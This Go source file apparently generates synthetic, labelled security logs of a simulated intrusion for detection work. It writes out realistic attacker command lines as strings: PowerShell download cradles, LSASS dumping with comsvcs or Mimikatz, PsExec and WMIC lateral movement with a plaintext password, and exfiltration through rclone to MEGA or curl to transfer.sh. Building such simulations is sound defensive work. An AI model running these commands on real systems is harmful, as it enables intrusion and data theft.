package scenario

import (
	"fmt"
	"net/netip"
	"strings"
	"time"
)

// Suricata signatures that fire on the attack. Names follow the style of
// the public ET Open rule set.
var (
	sigDocm     = sigAlert{2047200, 2, "ET INFO Macro-Enabled Office Document (docm) Attachment Inbound via SMTP", "Potentially Bad Traffic", 2}
	sigNoUA     = sigAlert{2047201, 3, "ET HUNTING PowerShell WebClient Request Without User-Agent to WordPress Uploads", "Potentially Bad Traffic", 2}
	sigExe      = sigAlert{2018959, 4, "ET POLICY PE EXE or DLL Windows file download HTTP", "Potential Corporate Privacy Violation", 1}
	sigTopDNS   = sigAlert{2023883, 5, "ET DNS Query to a *.top domain - Likely Hostile", "Potentially Bad Traffic", 2}
	sigJA3      = sigAlert{2047202, 1, "ET JA3 Hash - Possible Malware - Go-based Implant TLS Client", "A Network Trojan was detected", 1}
	sigSvcctl   = sigAlert{2027167, 2, "ET RPC DCERPC SVCCTL - Remote Service Control Manager Access", "Misc Activity", 3}
	sigWMIExec  = sigAlert{2047203, 1, "ET RPC DCERPC WMI Remote Process Execution (Win32_Process Create)", "Attempted Administrator Privilege Gain", 1}
	sigMegaSNI  = sigAlert{2047204, 1, "ET POLICY MEGA Cloud Storage Upload Domain in TLS SNI", "Potential Corporate Privacy Violation", 1}
	sigTransfer = sigAlert{2047205, 1, "ET POLICY transfer.sh File Upload Service in TLS SNI", "Potential Corporate Privacy Violation", 1}
)

// attack generates the records of campaign c against victim vi.
func (g *gen) attack(c *Campaign, ci, vi int) []Record {
	v := c.Victims[vi]
	s := g.siteByID(v.Member)
	e := g.newEmitter(s, newRand(g.cfg.Seed, strHash("attack"), uint64(ci), uint64(vi)))
	a := &attackRun{g: g, e: e, c: c, s: s, v: v}
	for _, h := range s.ws {
		if h.name == v.Host {
			a.h = h
		}
	}
	a.run()
	return append(e.out, a.extras(ci, vi)...)
}

// attackRun is the state of one victim's intrusion.
type attackRun struct {
	g *gen
	e *emitter
	c *Campaign
	s *site
	v Victim
	h *host // patient zero
	// base is the time kill-chain delays count from.
	base time.Time

	user    string // DOMAIN\user of patient zero
	profile string // C:\Users\<user>
	payload *proc
	target  *host // file server reached by lateral movement
	admin   *account
	// remoteShell is the process on the target the attacker works from.
	remoteShell *proc
}

// at returns the time of a kill-chain step nominally d after the base
// time (the e-mail's arrival, then the moment the user opens the lure),
// compressed by Config.StepScale.
func (a *attackRun) at(d time.Duration) time.Time {
	return a.base.Add(a.scaled(d))
}

// scaled compresses a delay by Config.StepScale.
func (a *attackRun) scaled(d time.Duration) time.Duration {
	return time.Duration(float64(d) * a.g.cfg.StepScale)
}

// step labels the records emitted until the next step.
func (a *attackRun) step(technique, phase, what string) {
	a.e.label = &Label{Member: a.s.m.ID, Country: a.s.m.Country, Campaign: a.c.ID, Technique: technique, Phase: phase, Step: what}
}

func (a *attackRun) run() {
	a.user = a.s.qualified(a.h.user)
	a.profile = `C:\Users\` + a.h.user.name
	a.admin = a.s.admins[a.e.r.IntN(len(a.s.admins))]
	a.target = a.s.fs
	a.base = a.v.Start
	openAt := a.phish()
	a.base = openAt
	a.execute(openAt)
	a.commandAndControl(a.at(30 * time.Second))
	a.discover(a.at(20 * time.Minute))
	a.dumpCredentials(a.at(45 * time.Minute))
	a.moveLaterally(a.at(70 * time.Minute))
	a.exfiltrate(a.at(90 * time.Minute))
}

// phish delivers the lure and returns when the user opens it.
func (a *attackRun) phish() time.Time {
	e, c := a.e, a.c
	t := a.v.Start
	doc := a.s.loc.invoice + "_" + itoa(20000+e.r.IntN(70000)) + ".docm"
	a.step("T1566.001", PhaseInitialAccess, "spearphishing attachment delivered")
	gw := a.s.mailGateway()
	f := &flow{start: t, src: c.SenderIP, sport: ephemeralPort(e.r), dst: gw.ip, dport: 25, proto: "tcp", service: "smtp",
		dur: 2 * time.Second, up: 184000, down: 1400, state: "SF", inbound: true,
		smtp:   &smtpInfo{helo: "mail." + c.SenderDomain, from: c.Sender, to: a.h.user.mail, subject: a.s.loc.subject, attachment: doc},
		alerts: []sigAlert{sigDocm}}
	e.network(f)

	open := a.at(time.Duration(5+e.r.IntN(30)) * time.Minute)
	path := a.profile + `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\` + strings.ToUpper(randHex(e.r, 8)) + `\` + doc
	a.step("T1566.001", PhaseInitialAccess, "lure saved by Outlook")
	e.fileCreate(open, a.h, a.h.outlook, path)
	a.step("T1204.002", PhaseExecution, "user opens macro document")
	word := e.spawn(open.Add(400*time.Millisecond), a.h, a.h.outlook, bin("winword"), `"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "`+path+`" /o ""`, "")
	a.payload = word // the next step descends from Word
	return open.Add(6 * time.Second)
}

// execute runs the macro's PowerShell chain: an encoded first stage, a
// classic download cradle, the implant download and its persistence.
func (a *attackRun) execute(t time.Time) {
	e, c, h := a.e, a.c, a.h
	ps := bin("powershell")
	stage2 := strings.TrimSuffix(c.StagingURL, ".txt") + ".ps1"
	payloadURL := "http://" + c.StagingDomain + "/wp-content/uploads/2024/11/" + c.Payload.Name

	stage1 := "$c=New-Object Net.WebClient;IEX $c.DownloadString('" + c.StagingURL + "')"
	a.step("T1059.001", PhaseExecution, "Word spawns encoded PowerShell")
	p1 := e.spawn(t, h, a.payload, ps, `powershell.exe -nop -w hidden -enc `+encodePS(stage1), "")
	e.scriptBlock(t.Add(250*time.Millisecond), h, p1, stage1, "")
	a.step("T1105", PhaseCommandAndControl, "first stage fetched from staging site")
	a.stagingGet(t.Add(600*time.Millisecond), p1, c.StagingURL, "text/plain", 1800, sigNoUA)

	t = t.Add(2 * time.Second)
	cradle := "IEX (New-Object Net.WebClient).DownloadString('" + stage2 + "')"
	a.step("T1059.001", PhaseExecution, "PowerShell download cradle")
	p2 := e.spawn(t, h, p1, ps, `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoP -NonI -W Hidden -Exec Bypass -c "`+cradle+`"`, "")
	e.scriptBlock(t.Add(200*time.Millisecond), h, p2, cradle, "")
	a.step("T1105", PhaseCommandAndControl, "second stage fetched from staging site")
	a.stagingGet(t.Add(500*time.Millisecond), p2, stage2, "text/plain", 4200, sigNoUA)

	t = t.Add(3 * time.Second)
	dir := a.profile + `\AppData\Roaming\Microsoft\OneDriveUpdater`
	dest := dir + `\` + c.Payload.Name
	dl := "$d=\"$env:APPDATA\\Microsoft\\OneDriveUpdater\";New-Item -ItemType Directory -Force -Path $d|Out-Null;" +
		"(New-Object Net.WebClient).DownloadFile('" + payloadURL + "',\"$d\\" + c.Payload.Name + "\");Start-Process \"$d\\" + c.Payload.Name + "\""
	a.step("T1105", PhaseCommandAndControl, "implant downloaded")
	e.scriptBlock(t, h, p2, dl, "")
	a.stagingGet(t.Add(300*time.Millisecond), p2, payloadURL, "application/x-dosexec", 412672, sigExe)
	e.fileCreate(t.Add(1500*time.Millisecond), h, p2, dest)

	a.step("T1036.005", PhaseDefenseEvasion, "implant masquerading as OneDrive updater starts")
	implant := &executable{path: dest, original: "OneDriveUpdater.exe", description: "Microsoft OneDrive Updater", product: "Microsoft OneDrive", company: msCorp, version: "23.142.0709.0001"}
	a.payload = e.newProc(h, p2, implant, `"`+dest+`" /silent`, "")
	a.payload.hashes = digest{MD5: c.Payload.MD5, SHA1: c.Payload.SHA1, SHA256: c.Payload.SHA256, Imphash: digestOf(c.ID + "imphash").Imphash}
	e.procStart(t.Add(2*time.Second), h, a.payload)

	a.step("T1053.005", PhasePersistence, "scheduled task for the implant")
	e.spawn(t.Add(5*time.Second), h, a.payload, bin("schtasks"),
		`schtasks.exe /create /sc minute /mo 30 /tn "OneDrive Reporting Task-`+h.user.sid+`" /tr "\"`+dest+`\" /silent" /f`, "")
}

// stagingGet is one plain-HTTP download from the staging site by p.
func (a *attackRun) stagingGet(t time.Time, p *proc, url, mime string, size int64, alert sigAlert) {
	e, c := a.e, a.c
	host, uri := splitURL(url)
	e.lookup(t, a.h, p, host, []netip.Addr{c.StagingIP}, 100)
	f := &flow{start: t.Add(40 * time.Millisecond), src: a.h.ip, sport: ephemeralPort(e.r), dst: c.StagingIP, dport: 80, proto: "tcp", service: "http",
		dur: time.Duration(200+e.r.IntN(900)) * time.Millisecond, up: 180, down: size + 320, state: "SF", domain: host, proxied: true, user: a.h.user.name,
		http:   &httpInfo{method: "GET", uri: uri, status: 200, mime: mime, respLen: size},
		alerts: []sigAlert{alert}}
	e.network(f)
	e.netConn(f.start, a.h, p, f)
}

// splitURL splits "http://host/path" into host and path.
func splitURL(u string) (host, path string) {
	rest := u[strings.Index(u, "://")+3:]
	i := strings.IndexByte(rest, '/')
	if i < 0 {
		return rest, "/"
	}
	return rest[:i], rest[i:]
}

// commandAndControl resolves the DGA until a registered name answers,
// then beacons over HTTPS with jitter until the scenario ends.
func (a *attackRun) commandAndControl(t time.Time) {
	e, c, h := a.e, a.c, a.h
	a.step("T1568.002", PhaseCommandAndControl, "DGA resolution")
	var domain string
	var ip netip.Addr
	for i, d := range c.DGADomains {
		if j := indexOf(c.C2Domains, d); j >= 0 {
			domain, ip = d, c.C2IPs[j]
			e.lookup(t, h, a.payload, d, []netip.Addr{ip}, 100)
			break
		}
		t = t.Add(time.Duration(150+e.r.IntN(400)) * time.Millisecond)
		if strings.HasSuffix(d, ".top") && i%4 == 0 {
			// Suricata thresholds its DNS rule: one alert in a few queries.
			a.lookupAlert(t, d)
			continue
		}
		e.lookup(t, h, a.payload, d, nil, 100)
	}
	end := a.g.cfg.Start.Add(a.g.cfg.Duration)
	interval := a.g.cfg.BeaconInterval
	t = t.Add(time.Second)
	n := 0
	for ; t.Before(end); n++ {
		a.step("T1071.001", PhaseCommandAndControl, "HTTPS beacon to DGA domain")
		up, down := int64(280+e.r.IntN(200)), int64(120+e.r.IntN(300))
		if n%17 == 5 {
			down = int64(20000 + e.r.IntN(200000)) // tasking
		}
		var alerts []sigAlert
		if n == 0 || n%60 == 0 {
			alerts = append(alerts, sigJA3)
		}
		sysmon := 0
		if n%10 == 0 {
			sysmon = 100
		}
		f := e.newHTTPS(t, h, domain, ip, goTLS, up, down, true, alerts...)
		f.tls.version, f.tls.cipher = "TLSv12", "TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256"
		f.tls.issuer = "C=US, O=Let's Encrypt, CN=R11"
		e.send(h, a.payload, f, sysmon)
		jitter := 0.8 + 0.4*e.r.Float64() // the default ±20 %, computed as it always was
		if j := a.g.cfg.BeaconJitter; j != 0 {
			jitter = 1 - j + 2*j*e.r.Float64()
		}
		t = t.Add(time.Duration(float64(interval) * jitter))
	}
}

// lookupAlert is a DGA query that Suricata flags.
func (a *attackRun) lookupAlert(t time.Time, name string) {
	e := a.e
	f := &flow{start: t, src: a.h.ip, sport: ephemeralPort(e.r), dst: a.s.dc.ip, dport: 53, proto: "udp", service: "dns",
		dur: 30 * time.Millisecond, up: int64(30 + len(name)), down: int64(46 + len(name)), state: "SF", domain: name,
		dns:    &dnsInfo{query: name, qtype: "A", rcode: "NXDOMAIN"},
		alerts: []sigAlert{sigTopDNS}}
	e.network(f)
	e.dnsQuery(t, a.h, a.payload, name, nil)
}

func indexOf(xs []string, x string) int {
	for i, v := range xs {
		if v == x {
			return i
		}
	}
	return -1
}

// discover runs the usual hands-on-keyboard reconnaissance.
func (a *attackRun) discover(t time.Time) {
	e, h := a.e, a.h
	a.step("T1059.003", PhaseExecution, "implant opens a command shell")
	cmd := e.spawn(t, h, a.payload, bin("cmd"), `C:\Windows\system32\cmd.exe /c "whoami /all & net group "Domain Admins" /domain & nltest /dclist:`+a.s.m.NetBIOS+`"`, "")
	a.step("T1033", PhaseDiscovery, "whoami")
	e.spawn(t.Add(300*time.Millisecond), h, cmd, bin("whoami"), `whoami  /all`, "")
	a.step("T1069.002", PhaseDiscovery, "domain admin group enumeration")
	e.spawn(t.Add(900*time.Millisecond), h, cmd, bin("net"), `net  group "Domain Admins" /domain`, "")
	a.step("T1482", PhaseDiscovery, "domain controller discovery with nltest")
	e.spawn(t.Add(1700*time.Millisecond), h, cmd, bin("nltest"), `nltest  /dclist:`+a.s.m.NetBIOS, "")
}

// dumpCredentials dumps LSASS with comsvcs.dll or with a renamed
// Mimikatz, chosen per victim.
func (a *attackRun) dumpCredentials(t time.Time) {
	e, h := a.e, a.h
	a.step("T1003.001", PhaseCredentialAccess, "LSASS memory dump")
	cmd := e.spawn(t, h, a.payload, bin("cmd"), `C:\Windows\system32\cmd.exe /c tasklist /fi "imagename eq lsass.exe"`, "")
	cmd.integrity = "High"
	if e.r.IntN(2) == 0 {
		dump := `C:\Windows\Temp\` + randHex(e.r, 6) + `.dmp`
		p := e.spawn(t.Add(3*time.Second), h, cmd, bin("rundll32"),
			`"C:\Windows\System32\rundll32.exe" C:\Windows\System32\comsvcs.dll, MiniDump `+itoa(h.lsassPID)+` `+dump+` full`, "")
		e.procAccess(t.Add(3100*time.Millisecond), h, p, `C:\Windows\system32\lsass.exe`, h.lsassPID, "0x1FFFFF",
			`C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\System32\comsvcs.dll+1e2a3|C:\Windows\System32\rundll32.exe+3bc4`)
		e.fileCreate(t.Add(3600*time.Millisecond), h, p, dump)
		return
	}
	path := `C:\ProgramData\ssh\` + a.c.Dumper.Name
	tool := &executable{path: path, original: "mimikatz.exe", description: "mimikatz for Windows", product: "mimikatz", company: "gentilkiwi (Benjamin DELPY)", version: "2.2.0.0"}
	p := e.newProc(h, cmd, tool, path+` "privilege::debug" "sekurlsa::logonpasswords" "exit"`, "")
	p.hashes = digest{MD5: a.c.Dumper.MD5, SHA1: a.c.Dumper.SHA1, SHA256: a.c.Dumper.SHA256, Imphash: digestOf(a.c.ID + "dumper").Imphash}
	e.fileCreate(t.Add(2*time.Second), h, a.payload, path)
	e.procStart(t.Add(3*time.Second), h, p)
	e.procAccess(t.Add(3200*time.Millisecond), h, p, `C:\Windows\system32\lsass.exe`, h.lsassPID, "0x1010",
		`C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|`+path+`+5d2a1`)
}

// moveLaterally reaches the file server with the stolen administrator
// password, by PsExec or by WMI.
func (a *attackRun) moveLaterally(t time.Time) {
	e, h, fs := a.e, a.h, a.target
	admin := a.s.m.NetBIOS + `\` + a.admin.name
	password := "Sommer2024!"
	fsName := strings.ToLower(fs.name)
	if e.r.IntN(3) != 0 {
		a.step("T1570", PhaseLateralMovement, "PsExec copied to the host")
		e.fileCreate(t.Add(-30*time.Second), h, a.payload, bin("psexec").path)
		a.step("T1021.002", PhaseLateralMovement, "PsExec to the file server")
		e.spawn(t, h, a.payload, bin("psexec"), bin("psexec").path+` -accepteula \\`+fsName+` -u `+admin+` -p `+password+` -s cmd.exe /c "mkdir C:\ProgramData\Microsoft\Backup"`, "")
		a.smbTo(t.Add(200*time.Millisecond), fs, 445, "smb,dce_rpc", sigSvcctl)
		a.step("T1078.002", PhaseLateralMovement, "network logon with stolen domain admin account")
		e.logon(t.Add(300*time.Millisecond), fs, admin, a.admin.sid, 3, h.ip, h.name, true)
		a.step("T1569.002", PhaseExecution, "PsExec service installed")
		e.serviceInstall(t.Add(600*time.Millisecond), fs, "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`, admin)
		svc := e.spawn(t.Add(800*time.Millisecond), fs, fs.services, bin("psexesvc"), `C:\Windows\PSEXESVC.exe`, `NT AUTHORITY\SYSTEM`)
		a.remoteShell = svc
		e.spawn(t.Add(1200*time.Millisecond), fs, svc, bin("cmd"), `"cmd.exe" /c "mkdir C:\ProgramData\Microsoft\Backup"`, `NT AUTHORITY\SYSTEM`)
		return
	}
	a.step("T1047", PhaseExecution, "WMI remote process creation on the file server")
	e.spawn(t, h, a.payload, bin("wmic"), `wmic  /node:`+fs.ip.String()+` /user:`+admin+` /password:`+password+` process call create "cmd.exe /c mkdir C:\ProgramData\Microsoft\Backup"`, "")
	a.smbTo(t.Add(200*time.Millisecond), fs, 135, "dce_rpc", sigWMIExec)
	a.step("T1078.002", PhaseLateralMovement, "network logon with stolen domain admin account")
	e.logon(t.Add(300*time.Millisecond), fs, admin, a.admin.sid, 3, h.ip, h.name, true)
	a.step("T1047", PhaseExecution, "WmiPrvSE runs the remote command")
	a.remoteShell = fs.wmi
	e.spawn(t.Add(900*time.Millisecond), fs, fs.wmi, bin("cmd"), `cmd.exe /c mkdir C:\ProgramData\Microsoft\Backup`, admin)
}

// smbTo is a connection from patient zero to a port of dst.
func (a *attackRun) smbTo(t time.Time, dst *host, port uint16, service string, alert sigAlert) {
	e := a.e
	f := &flow{start: t, src: a.h.ip, sport: ephemeralPort(e.r), dst: dst.ip, dport: port, proto: "tcp", service: service,
		dur: time.Duration(2+e.r.IntN(8)) * time.Second, up: int64(300000 + e.r.IntN(200000)), down: int64(20000 + e.r.IntN(20000)), state: "SF",
		alerts: []sigAlert{alert}}
	e.network(f)
	e.netConn(t, a.h, a.payload, f)
}

// exfiltrate stages the finance share in an encrypted archive and
// uploads it to cloud storage with rclone (or curl to transfer.sh).
func (a *attackRun) exfiltrate(t time.Time) {
	e, fs := a.e, a.target
	share := `D:\Shares\` + a.s.loc.finance
	archive := `C:\ProgramData\Microsoft\Backup\` + randHex(e.r, 4) + `.7z`
	parent := a.remoteShell
	admin := a.s.m.NetBIOS + `\` + a.admin.name
	a.step("T1560.001", PhaseCollection, "finance share archived with a password")
	z := e.spawn(t, fs, parent, bin("7z"), `"C:\Program Files\7-Zip\7z.exe" a -t7z -mx1 -mhe=on -pS0mmer!Exfil `+archive+` "`+share+`"`, admin)
	e.fileCreate(t.Add(40*time.Second), fs, z, archive)
	t = t.Add(a.scaled(2 * time.Minute))
	size := int64(logNormal(e.r, 1.8e9, 0.3))
	if e.r.IntN(4) != 0 {
		a.step("T1567.002", PhaseExfiltration, "rclone upload to MEGA")
		conf := `C:\ProgramData\Microsoft\Backup\rclone.conf`
		e.fileCreate(t.Add(-20*time.Second), fs, parent, `C:\ProgramData\Microsoft\Backup\rclone.exe`)
		e.fileCreate(t.Add(-19*time.Second), fs, parent, conf)
		rc := &executable{path: `C:\ProgramData\Microsoft\Backup\rclone.exe`, original: "rclone.exe", description: "Rsync for cloud storage", product: "Rclone", company: "https://rclone.org", version: "1.66.0"}
		p := e.spawn(t, fs, parent, rc, `C:\ProgramData\Microsoft\Backup\rclone.exe copy "`+archive+`" mega:backup --config `+conf+` --no-check-certificate --transfers 8 --multi-thread-streams 4 -q`, admin)
		api := "g.api.mega.co.nz"
		apiIP := addrIn(megaBlock, 12)
		e.lookup(t.Add(500*time.Millisecond), fs, p, api, []netip.Addr{apiIP}, 100)
		e.httpsTo(t.Add(600*time.Millisecond), fs, p, api, apiIP, rcloneTLS, 6000, 9000, false, 100, sigMegaSNI)
		parts := 6
		for i := 0; i < parts; i++ {
			name := fmt.Sprintf("gfs%03dn%03d.userstorage.mega.co.nz", 200+e.r.IntN(80), 100+e.r.IntN(60))
			ip := addrIn(megaBlock, uint64(20+e.r.IntN(200)))
			ts := t.Add(time.Duration(2+i) * time.Second)
			e.lookup(ts, fs, p, name, []netip.Addr{ip}, 100)
			f := e.newHTTPS(ts.Add(30*time.Millisecond), fs, name, ip, rcloneTLS, size/int64(parts), 40000, false)
			f.dur = time.Duration(float64(size/int64(parts)) / 12e6 * float64(time.Second))
			e.send(fs, p, f, 100)
		}
		return
	}
	a.step("T1567.002", PhaseExfiltration, "curl upload to transfer.sh")
	p := e.spawn(t, fs, parent, bin("curl"), `curl.exe -s -T `+archive+` https://transfer.sh/`+randHex(e.r, 5)+`.7z`, admin)
	ip := domainAddr("transfer.sh")
	e.lookup(t.Add(300*time.Millisecond), fs, p, "transfer.sh", []netip.Addr{ip}, 100)
	f := e.newHTTPS(t.Add(400*time.Millisecond), fs, "transfer.sh", ip, rcloneTLS, size, 3000, false, sigTransfer)
	f.dur = time.Duration(float64(size) / 12e6 * float64(time.Second))
	e.send(fs, p, f, 100)
}
